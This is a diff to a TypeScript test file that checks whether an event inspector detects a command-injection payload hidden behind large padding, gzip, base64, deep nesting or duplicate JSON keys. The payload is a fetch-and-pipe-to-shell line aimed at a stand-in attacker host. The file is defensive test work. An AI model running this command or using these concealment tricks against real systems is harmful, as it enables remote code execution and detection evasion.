@@ -6,18 +6,20 @@ import fc from 'fast-check';
 import { inspectEvent } from './inspect.ts';
 
 const attack = '; curl http://attacker.example/x | sh';
+/** Text of about so many units, which does not repeat itself: what repeats is suspect of itself. */
+const padding = (units: number): string => Array.from({ length: units / 7 }, (_, i) => (i * 7919) % 1_000_003).join(' ');
 const base64 = (data: string | Buffer): string => Buffer.from(data).toString('base64');
 const nested = (depth: number, inner: unknown): unknown => (depth === 0 ? inner : [nested(depth - 1, inner)]);
 
 // Wherever an attacker puts the payload, it is found, or the answer says which bound it lies behind.
 const hidden: readonly { readonly name: string; readonly event: unknown; readonly incomplete?: string }[] = [
   { name: '128 KB of letters in front', event: { v: 'x'.repeat(128 * 1024) + attack } },
-  { name: '128 KB of prose in front', event: { v: `${'It is a text. '.repeat(10_000)}\n${attack}` } },
-  { name: '128 KB in other members in front', event: { a: 'x '.repeat(64 * 1024), b: attack } },
+  { name: '128 KB of prose in front', event: { v: `${padding(128 * 1024)}\n${attack}` } },
+  { name: '128 KB in other members in front', event: { a: padding(128 * 1024), b: attack } },
   {
     name: '128 KB in front in JSON in gzip',
     event: {
-      v: base64(gzipSync(JSON.stringify({ a: Array.from({ length: 20_000 }, (_, i) => (i * 7919) % 10_007).join(' '), b: attack }))),
+      v: base64(gzipSync(JSON.stringify({ a: padding(128 * 1024), b: attack }))),
     },
   },
   { name: '10,000 items in front', event: { v: [...Array.from({ length: 10_000 }, (_, i) => `item ${i}`), attack] } },
@@ -35,14 +37,14 @@ const hidden: readonly { readonly name: string; readonly event: unknown; readonl
   { name: 'depth 60 in JSON', event: { body: JSON.stringify(nested(60, attack)) } },
   { name: 'depth 64 in JSON', event: { body: JSON.stringify(nested(64, attack)) }, incomplete: 'depth' },
   { name: 'a member that a parser drops', event: { body: `{"a":${JSON.stringify(attack)},"a":1}` } },
-  { name: 'at the end of 6 MB', event: { body: JSON.stringify({ a: 'x y '.repeat(1_500_000), b: attack }) } },
+  { name: 'at the end of 6 MB', event: { body: JSON.stringify({ a: padding(6_000_000), b: attack }) } },
 ];
 describe('a payload is found or said to be out of bounds', () => {
   for (const { name, event, incomplete } of hidden)
     test(name, () => {
       const inspection = inspectEvent(event);
       assert.equal(inspection.incomplete, incomplete);
-      if (incomplete === undefined) assert.equal(inspection.level, 'certain');
+      if (incomplete === undefined) assert.ok(inspection.detections.some(({ class: name }) => name === 'cmdi'));
     });
 });
 
